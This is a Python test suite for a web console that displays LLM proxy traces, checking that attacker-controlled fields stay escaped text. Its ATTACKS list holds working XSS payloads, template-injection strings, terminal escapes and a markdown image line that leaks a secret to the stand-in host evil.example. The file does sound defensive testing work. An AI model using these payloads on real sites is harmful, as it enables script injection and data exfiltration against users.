"""Given records whose every field was written by an attacker, when an operator looks at them,
then what was written is text, and nothing but text."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import jinja2
import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forebay.console import Console, pages
from forebay.console import templates as templates_module
from forebay.console.templates import render
from forebay.observe import record as records
from forebay.observe import rows, search
from forebay.observe.query import Line, Reader
from forebay.observe.record import Record
from forebay.observe.writer import Writer
from records import (
    STREAM_HEADERS,
    Calendar,
    attempted,
    changed,
    chat,
    chunked,
    dumps,
    every_kind,
    id_of,
    whole,
)
from visitor import Page, Visitor

ATTACKS = [
    "<script>alert(1)</script>",
    "</pre></code></textarea></title></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<base href=https://evil.example><form action=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "javascript:alert(1)",
    "\u202egnp.exe \u2066 hidden\u2069",
    "\x1b]0;owned\x07\x1b[2J",
]

#: Every element our templates use; an attack that becomes an element shows up here.
OURS = {
    "html", "head", "meta", "title", "link", "body", "a", "header", "nav", "form", "input",
    "button", "main", "section", "p", "h1", "h2", "h3", "h4", "dl", "div", "dt", "dd", "small",
    "label", "span", "select", "option", "table", "caption", "thead", "tbody", "tr", "th", "td",
    "bdi", "code", "pre", "footer", "ol", "li", "svg", "line", "text", "rect", "details",
    "summary", "article", "del", "ins", "strong", "img",
}  # fmt: skip


def assert_only_ours(page: Page) -> None:
    for tag, attributes in page.elements:
        assert tag in OURS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcdoc", "formaction", "http-equiv"), (tag, name)
            if name in ("href", "src", "action"):
                assert re.match(r"[/?#]", value), (tag, name, value)
                assert not value.startswith("//"), (tag, value)
        if tag == "img":
            assert attributes["src"] == "/static/mark.svg"


def everywhere(attack: str, n: int = 1) -> Record:
    """A record with the attack in every field that holds text."""
    header = [(attack.encode(), attack.encode())]
    body = dumps(
        {
            "model": attack,
            "messages": [
                {"role": attack, "content": attack},
                {"role": "user", "content": [{"type": attack, attack: attack}]},
                {"role": "user", "content": [{"type": "text", "text": attack}]},
                {"role": "user", "content": [{"type": "image_url", "image_url": {"url": attack}}]},
                {"role": "tool", "tool_call_id": attack, "content": attack},
                {"role": "assistant", "tool_calls": [tool_call(attack)], "refusal": attack},
            ],
            "tools": [{"function": {"name": attack}}],
        }
    )
    events = [
        b"data: " + dumps({"choices": [{"index": 0, "delta": {"content": attack}}]}) + b"\n\n",
        b"data: " + dumps({"choices": [{"delta": {}, "finish_reason": attack}]}) + b"\n\n",
        b"data: " + dumps({"error": {"message": attack}}) + b"\n\n",
    ]
    attempt = attempted(
        attack,
        attack,
        method=attack,
        path=attack,
        sent_headers=header,
        sent=[(0, 1, attack.encode())],
        headers=header,
        body=chunked(events),
        finish_reason=attack,
        model_reported=attack,
        outcome=attack,
    )
    return changed(
        chat(n, body=body),
        team=attack,
        project=attack,
        key_id=attack,
        method=attack,
        path=attack,
        query=attack,
        endpoint=attack,
        dialect=attack,
        config_version=attack,
        headers=header,
        model=attack,
        route=attack,
        cache=attack,
        cache_source=attack,
        attempts=[attempt],
        reply_headers=[*STREAM_HEADERS, *header],
        outcome=attack,
        error=attack,
        draws=[attack],
    )


def tool_call(text: str) -> dict[str, object]:
    return {"id": text, "type": "function", "function": {"name": text, "arguments": text}}


class Shown:
    """A console over records, and an operator who is logged in."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.world = Calendar()
        self.console = Console(folder, self.world, auth=lambda key: key == "k")
        self.visitor = Visitor(self.console)
        self.visitor.log_in("k")

    def record(self, *made: Record) -> None:
        writer = Writer(self.folder, self.world, secrets={})
        writer.write([records.encode(record) for record in made])
        writer.close()


@pytest.fixture
def shown(tmp_path: Path) -> Iterator[Shown]:
    shown = Shown(tmp_path / "traces")
    yield shown
    shown.console.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_every_field_stays_text_on_every_page(shown: Shown, attack: str) -> None:
    shown.record(everywhere(attack))

    for path in ("/traces", f"/traces/{id_of(1)}", f"/traces/{id_of(1)}?view=raw"):
        answer = shown.visitor.get(path)
        assert answer.status == 200
        assert_only_ours(answer.page)
        assert answer.page.open == []
    assert_attack_is_read(answer.page, attack)


def assert_attack_is_read(page: Page, attack: str) -> None:
    """It is there, character by character; what acts on a reader is spelled out."""
    spelled = "".join(
        c if c.isprintable() else f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}"
        for c in attack
    )
    assert any(spelled in line for line in page.lines)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_an_id_stays_text_and_leads_only_to_its_trace(
    shown: Shown, attack: str
) -> None:
    shown.record(changed(chat(1), id=attack))

    page = shown.visitor.get("/traces").page
    (link,) = [a for a in page.named("a") if "title" in a and a["href"].startswith("/traces/")]
    answer = shown.visitor.get(link["href"].replace("%2F", "/"))

    assert_only_ours(page)
    assert_only_ours(answer.page)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("field", ["q", "project", "model", "outcome", "cache", "since", "before"])
def test_an_attack_in_an_address_stays_text(shown: Shown, attack: str, field: str) -> None:
    shown.record(chat(1))

    page = shown.visitor.get("/traces?" + urlencode({field: attack})).page

    assert_only_ours(page)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_path_stays_text(shown: Shown, attack: str) -> None:
    shown.record(chat(1))

    for path in (
        f"/{attack}",
        f"/traces/{attack}",
        f"/traces/{quote(attack)}",
        f"/static/{attack}",
    ):
        answer = shown.visitor.get(path.partition("?")[0])
        assert answer.status == 404
        assert_only_ours(answer.page)
    stranger = Visitor(shown.console)
    answer = stranger.get("/login?next=" + quote(attack))
    assert_only_ours(answer.page)


def test_nothing_loads_from_where_content_points(shown: Shown) -> None:
    picture = {"type": "image_url", "image_url": {"url": "https://evil.example/a.png"}}
    body = dumps({"model": "m", "messages": [{"role": "user", "content": [picture]}]})
    shown.record(chat(1, body=body))

    page = shown.visitor.get(f"/traces/{id_of(1)}").page

    assert "Media https://evil.example/a.png" in page.text
    assert_only_ours(page)


def test_twins_are_json_to_every_browser(shown: Shown) -> None:
    shown.record(everywhere("<script>alert(1)</script>"))

    for path in ("/traces.json", f"/traces/{id_of(1)}.json"):
        answer = shown.visitor.get(path)
        assert answer.header("content-type") == "application/json"
        assert answer.header("x-content-type-options") == "nosniff"


@given(st.text(max_size=60))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_text_at_all_becomes_an_element(text: str) -> None:
    record = everywhere(text)
    encoded = records.decode(records.encode(record))
    line = line_of(encoded)

    html = render(
        "trace.html",
        style="s.css",
        logout_token="t",
        found=pages.trace(line, encoded, raw=True),
        now_ns=record.received_wall_ns,
    )

    assert_only_ours(Page(html))


def line_of(record: Record) -> Line:
    return search.line_of(rows.row(1, records.encode(record)))


# -- bodies that are not what they should be


BODIES = [
    b"",
    b"{",
    b"[]",
    b"null",
    b'"text"',
    b"\xff\xfe\x00",
    b"data: {\n\n",
    b"data: \xff\n\ndata: [1]\n\nevent: x\ndata: null\n\n",
    b'{"messages": {}}',
    b'{"messages": [null, 1, [], {"content": {}}, {"role": [], "content": [[], {"type": 1}]}]}',
    b'{"input": null, "instructions": [1]}',
    b'{"input": [[1, 2], "x"]}',
    b'{"choices": [null, {}, {"message": null}]}',
    b'{"choices": [{"message": {"tool_calls": [1, {"function": 1}]}}]}',
    b'{"data": [{"embedding": "AAAA"}]}',
    b'{"error": null}',
    b'{"error": [1]}',
    b'{"output": [{"type": "message"}], "status": 3}',
    b'data: {"choices": [{"delta": {"tool_calls": {"a": 1}, "content": 3}}, 4]}\n\n',
    b'data: {"type": "content_block_delta", "index": "x", "delta": []}\n\n',
    b'data: {"type": "content_block_start", "content_block": 3}\n\n',
    b'data: {"type": "response.completed", "response": null}\n\n',
    b'{"messages": ' + b"[" * 3000 + b"]" * 3000 + b"}",
    dumps({"messages": [{"role": "user", "content": "x" * 300_000}]}),
]


@pytest.mark.parametrize("record", every_kind(), ids=lambda record: str(record.outcome))
def test_bodies_of_any_shape_have_a_page(shown: Shown, record: Record) -> None:
    made = []
    for n, body in enumerate(BODIES, 1):
        attempts = [
            msgspec.structs.replace(attempt, sent=[], body=whole(body))
            for attempt in record.attempts
        ]
        bad = changed(
            record, id=id_of(n), body=whole(body), reply_body=whole(body), attempts=attempts
        )
        made.append(bad)
    shown.record(*made)

    assert shown.visitor.get("/traces").status == 200
    for n in range(1, len(BODIES) + 1):
        assert shown.visitor.get(f"/traces/{id_of(n)}").status == 200, BODIES[n - 1]
        assert shown.visitor.get(f"/traces/{id_of(n)}.json").status == 200, BODIES[n - 1]


def test_splices_that_point_anywhere_have_a_page(shown: Shown) -> None:
    attempt = attempted("openai", "m", sent=[(5, 2, b"x"), (10**6, 10**7, b"y")], body=whole(b"z"))
    shown.record(changed(chat(1), attempts=[attempt], reply_body=[(9, 99, b"")]))

    assert shown.visitor.get(f"/traces/{id_of(1)}?view=raw").status == 200


def test_times_that_make_no_sense_have_a_page(shown: Shown) -> None:
    attempt = attempted("openai", "m", started_ns=10**15, head_ns=5, first_ns=2**62, ended_ns=1)
    huge = msgspec.structs.replace(attempt, started_ns=2**63 - 1, ended_ns=0, head_ns=0)
    record = changed(
        chat(1), attempts=[attempt, huge], decoded_ns=2**62, planned_ns=1, first_ns=1, ended_ns=0
    )
    shown.record(record)

    assert shown.visitor.get(f"/traces/{id_of(1)}").status == 200


# -- the templates themselves


def test_no_template_turns_escaping_off() -> None:
    folder = Path(templates_module.__file__).parent
    for path in folder.glob("*.html"):
        source = path.read_text()
        assert "|safe" not in source.replace(" ", ""), path.name
        assert "autoescape" not in source, path.name
        assert "<script" not in source, path.name
        assert not re.search(r"\sstyle=|\son[a-z]+=", source), path.name


def test_every_value_in_an_attribute_is_quoted() -> None:
    folder = Path(templates_module.__file__).parent
    for path in folder.glob("*.html"):
        assert not re.search(r"=\s*\{\{", path.read_text()), path.name


def test_templates_escape_by_default() -> None:
    assert templates_module._environment.autoescape is True
    assert templates_module._environment.undefined is jinja2.StrictUndefined
    page = templates_module._environment.from_string("{{ it }}").render(it="<b>")
    assert page == "&lt;b&gt;"


def test_the_reader_of_this_file_is_real(shown: Shown) -> None:
    # `everywhere` must reach the store whole: a record that is refused would pass every test.
    shown.record(everywhere("<x>"))
    reader = Reader(shown.folder, shown.world.now_ns)
    assert reader.traces().lines[0].model == "<x>"
    reader.close()
